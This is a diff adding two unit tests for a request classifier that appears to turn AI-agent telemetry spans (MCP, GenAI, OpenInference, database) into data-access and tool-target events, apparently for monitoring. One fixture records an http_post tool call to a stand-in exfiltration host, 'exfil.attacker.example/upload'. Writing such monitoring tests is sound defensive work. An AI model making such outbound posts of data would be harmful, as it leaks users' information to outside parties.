@@ -83,6 +83,39 @@ describe('classifyRequest', () => {
     expect(events[0]).toMatchObject({ kind: 'data_access', data: { resource: 'https://files.example.com/a.csv', host: 'files.example.com' } });
   });
 
+  it('reads the data access of stock instrumentations: MCP resources/read, GenAI retrieval, OpenInference RETRIEVER, older database conventions', () => {
+    const { events } = classifyRequest(
+      request([
+        span('resources/read file:///srv/crm/export.csv', { 'mcp.method.name': 'resources/read', 'mcp.resource.uri': 'file:///srv/crm/export.csv?x=1' }),
+        span('retrieval kb', { 'gen_ai.operation.name': 'retrieval', 'gen_ai.data_source.id': 'support-kb' }),
+        span('VectorStoreRetriever', { 'openinference.span.kind': 'RETRIEVER', 'input.value': 'refund policy' }),
+        span('SELECT', { 'db.system': 'sqlite', 'db.statement': 'SELECT id, email FROM customers LIMIT 5' }),
+        span('query', { 'db.system': 'postgresql', 'db.name': 'crm', 'db.sql.table': 'orders', 'db.operation': 'UPDATE' }),
+      ]),
+      'default',
+    );
+    expect(events.map((event) => [event.kind, event.data?.resource, event.data?.operation, event.data?.system])).toEqual([
+      ['data_access', 'file:///srv/crm/export.csv', undefined, undefined],
+      ['data_access', 'support-kb', undefined, undefined],
+      ['data_access', 'VectorStoreRetriever', undefined, undefined],
+      ['data_access', 'customers', 'SELECT', 'sqlite'],
+      ['data_access', 'crm.orders', 'UPDATE', 'postgresql'],
+    ]);
+  });
+
+  it('takes the target of a tool from the arguments the framework recorded when nothing else names it', () => {
+    const { events } = classifyRequest(
+      request([
+        span('execute_tool http_post', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'http_post', 'gen_ai.tool.call.arguments': '{"url":"https://exfil.attacker.example/upload","body":"x"}' }),
+        span('http_post', { 'openinference.span.kind': 'TOOL', 'tool.name': 'http_post', 'input.value': '{"url": "https://hooks.example.net/in"}' }),
+        span('execute_tool send_mail', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'send_mail', 'gen_ai.tool.call.arguments': '{"to":"a@b.example","body":"see https://x.example"}' }),
+        span('execute_tool fetch', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'fetch', 'tripline.tool.target': 'api.internal', 'gen_ai.tool.call.arguments': '{"url":"https://other.example"}' }),
+      ]),
+      'default',
+    );
+    expect(events.map((event) => event.tool?.target)).toEqual(['https://exfil.attacker.example/upload', 'https://hooks.example.net/in', undefined, 'api.internal']);
+  });
+
   it('turns the task span into a task boundary and counts other spans as dropped', () => {
     const batch = classifyRequest(
       request([
